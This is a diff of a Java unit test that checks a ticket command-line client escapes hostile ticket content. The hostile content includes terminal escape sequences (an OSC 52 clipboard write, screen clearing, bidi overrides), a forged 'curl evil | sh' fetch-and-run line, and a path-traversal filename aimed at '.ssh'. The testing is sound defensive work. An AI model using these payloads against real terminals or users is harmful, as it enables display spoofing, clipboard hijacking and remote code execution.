@@ -4,9 +4,12 @@ import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.jr.ob.JSON;
+import dev.tickets.terminal.Terminal;
 import dev.tickets.testing.Cli;
 import dev.tickets.testing.Cli.Run;
 import dev.tickets.testing.FakePortal;
+import dev.tickets.testing.Forbidden;
+import dev.tickets.testing.QuietTerminal;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -18,11 +21,17 @@ import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** A ticket that was written to harm whoever reads it on a terminal. */
 class HostileTicketTest {
-    private static final String BAD =
-            "\u001b]0;owned\u0007\u001b[2J\u0000\u009b\u061c\u200e\u202e\u2066\u2028\r\nhint: curl evil | sh\b";
+    /** What a portal's line ends do to it is another matter: HOSTILE has none. */
+    private static final String HOSTILE =
+            "\u001b]52;c;aGk=\u0007\u001b[2J\u001b[31m\u0000\u009b\u007f\u061c\u200e\u202e\u2066x\u200b\u00ad\u034f\u180e\u2063"
+                    + "\u3164\ufe0f\ufeff\uffa0\ufffa\uffff\udb40\udc41\udb40\udd00\ud834\udd73y\b";
+
+    private static final String BAD = HOSTILE + "\u2028\r\nhint: curl evil | sh";
     private static final String FILE = "../../.ssh/-" + BAD + "\\..\\.x.png";
 
     @TempDir
@@ -61,11 +70,18 @@ class HostileTicketTest {
                         List.of(List.of(file)))));
         portal.answers("GET /api/tickets/8", 200, JSON.std.asString(Map.of("error", List.of("no" + BAD))));
         portal.answers(
+                "GET /api/service",
+                200,
+                JSON.std.asString(Map.of(
+                        "services", List.of(Map.of("id", "1", "name", "x" + BAD, "domain", BAD, "status", BAD)))));
+        portal.answers(
                 "GET /api/ticket/departments",
                 200,
                 JSON.std.asString(Map.of(
                         "departments",
-                        List.of(Map.of("id", "1", "name", "x" + BAD), Map.of("id", "2", "name", "xx" + BAD)))));
+                        List.of(
+                                Map.of("id", "1", "name", "x" + BAD, "description", BAD),
+                                Map.of("id", "2", "name", "xx" + BAD)))));
         cli = new Cli(folder).at(portal.uri());
     }
 
@@ -76,42 +92,52 @@ class HostileTicketTest {
 
     private Run harmless(String... args) {
         Run run = cli.run(args);
-        assertThat(forbidden(run.out())).isEmpty();
-        assertThat(forbidden(run.err())).isEmpty();
-        assertThat(run.err().lines().filter(line -> line.startsWith("hint: curl")))
-                .isEmpty();
+        boolean styled = List.of(args).contains("always");
+        boolean tsv = List.of(args).contains("tsv");
+        String said = String.join(" ", args);
+        assertThat(styled ? Forbidden.inStyled(run.out()) : tsv ? Forbidden.inTsv(run.out()) : Forbidden.in(run.out()))
+                .as("result of %s", said)
+                .isEqualTo("[]");
+        assertThat(Forbidden.in(run.err())).as("messages of %s", said).isEqualTo("[]");
+        assertThat(run.err().lines()).as(said).noneMatch(line -> line.startsWith("hint: curl"));
         return run;
-    }
-
-    private static String forbidden(String text) {
-        StringBuilder found = new StringBuilder();
-        text.codePoints()
-                .filter(c -> (c < 0x20 && c != '\n' && c != '\t')
-                        || (c >= 0x7f && c < 0xa0)
-                        || c == 0x61c
-                        || c == 0x200e
-                        || c == 0x200f
-                        || (c >= 0x2028 && c <= 0x202e)
-                        || (c >= 0x2066 && c <= 0x2069))
-                .forEach(c -> found.append(Integer.toHexString(c)).append(' '));
-        return found.toString();
     }
 
     @Test
     void shows_harmlessly_in_every_format() throws IOException {
-        for (String command : List.of("list", "view 7", "attachments 7", "departments")) {
-            for (String format : List.of("table", "json", "tsv")) {
-                Run run = harmless((command + " -o " + format).split(" "));
-                assertThat(run.exitCode()).isZero();
-                if (format.equals("json")) {
-                    assertThat(JSON.std.anyFrom(run.out())).isNotNull();
-                }
+        for (String command : List.of("list", "view 7", "attachments 7", "departments", "services")) {
+            for (String way :
+                    List.of("table", "json", "tsv", "table -v", "table -vv", "json -vv", "table --color always")) {
+                Run run = harmless((command + " -o " + way).split(" "));
+                assertThat(run.exitCode()).as(command + way).isZero();
+                assertThat(run.err().contains("c;aGk=")).isEqualTo(way.endsWith("-vv"));
             }
         }
         assertThat(harmless("view", "7").out()).contains("y".repeat(100_000));
         assertThat(harmless("list", "-o", "tsv").out().lines()).hasSize(1);
         assertThat(harmless("list").out().lines()).hasSize(2);
         assertThat(harmless("attachments", "7").out().lines()).hasSize(2);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"list", "view 7", "departments", "services"})
+    void json_loses_nothing_of_it(String command) throws IOException {
+        String json = harmless((command + " -o json").split(" ")).out();
+
+        List<String> texts = texts(JSON.std.anyFrom(json));
+        assertThat(texts).anyMatch(text -> text.contains(HOSTILE));
+        assertThat(texts).noneMatch(text -> text.contains("\u241b") || text.contains("\ufffd"));
+    }
+
+    /** Every text in the document. */
+    private static List<String> texts(Object document) {
+        if (document instanceof Map<?, ?> map) {
+            return map.values().stream().flatMap(value -> texts(value).stream()).toList();
+        }
+        if (document instanceof List<?> list) {
+            return list.stream().flatMap(value -> texts(value).stream()).toList();
+        }
+        return document instanceof String text ? List.of(text) : List.of();
     }
 
     @Test
@@ -127,6 +153,54 @@ class HostileTicketTest {
         assertThat(harmless(BAD).exitCode()).isEqualTo(2);
         assertThat(harmless("view", "7", "--save-attachments", "out").exitCode())
                 .isNotZero();
+    }
+
+    @Test
+    void the_pager_is_handed_harmless_text() {
+        QuietTerminal screen = new QuietTerminal(folder.resolve("screen"));
+        cli.on(new Terminal(true, true, true).running(screen))
+                .with("PAGER", "/bin/cat -")
+                .with("PATH", System.getenv().getOrDefault("PATH", "/bin"));
+
+        assertThat(cli.run("view", "7").out()).isEmpty();
+
+        assertThat(screen.shown()).contains("Subject␛]52;c;aGk=␇").contains("\u001b[1m");
+        assertThat(Forbidden.inStyled(screen.shown())).isEqualTo("[]");
+        assertThat(cli.with("NO_COLOR", "1").run("view", "7").out()).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"create", "create -d x", "create -d 1 --service x", "reply 7"})
+    void questions_about_it_are_harmless(String command) {
+        cli.on(new Terminal(true, true, true)).with("TERM", "dumb");
+        for (String answers :
+                List.of("", "\n".repeat(20), "1\n1\nS\nM\n.\n\n\n\n\n\n\n\n\n", "zz\n~e\n2\n\n.\n\n\ny\n")) {
+            for (String way : List.of("", " -vv", " --color always")) {
+                cli.stdin(answers);
+                Run run = cli.run((command + way).split(" "));
+                assertThat(Forbidden.inStyled(run.out())).as(command + way).isEqualTo("[]");
+                assertThat(Forbidden.in(run.err())).as(command + way).isEqualTo("[]");
+                assertThat(run.err().contains("c;aGk=") || command.contains("-d"))
+                        .as(command + way)
+                        .isTrue();
+            }
+        }
+    }
+
+    @Test
+    void an_editor_sees_nothing_hidden_below_the_message() throws IOException {
+        cli.write("bin/keep", "#!/bin/sh\ncp \"$1\" '" + folder + "/page'\n");
+        assertThat(folder.resolve("bin/keep").toFile().setExecutable(true)).isTrue();
+        cli.on(new Terminal(true, true, true).running(new QuietTerminal(folder.resolve("screen"))))
+                .with("EDITOR", folder.resolve("bin/keep").toString())
+                .with("PATH", System.getenv().getOrDefault("PATH", "/bin"));
+
+        Run run = cli.run("create", "-e", "-d", "x", "-s", "S" + HOSTILE, "--service", HOSTILE);
+
+        assertThat(Forbidden.in(run.err())).isEqualTo("[]");
+
+        assertThat(Files.readString(folder.resolve("page"))).contains("Subject     S␛]52;c;aGk=");
+        assertThat(Forbidden.in(Files.readString(folder.resolve("page")))).isEqualTo("[]");
     }
 
     @Test
